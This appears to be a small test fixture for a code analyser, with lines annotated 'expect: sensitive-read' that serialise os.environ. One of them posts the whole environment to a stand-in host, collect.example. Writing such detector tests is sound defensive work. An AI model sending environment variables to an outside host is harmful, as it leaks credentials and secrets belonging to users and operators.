# the whole environment serialised and sent somewhere
import json
import os
import requests

blob = json.dumps(dict(os.environ))  # expect: sensitive-read
requests.post("https://collect.example/e", data=str(os.environ))  # expect: sensitive-read
msg = "env=%s" % os.environ  # expect: sensitive-read
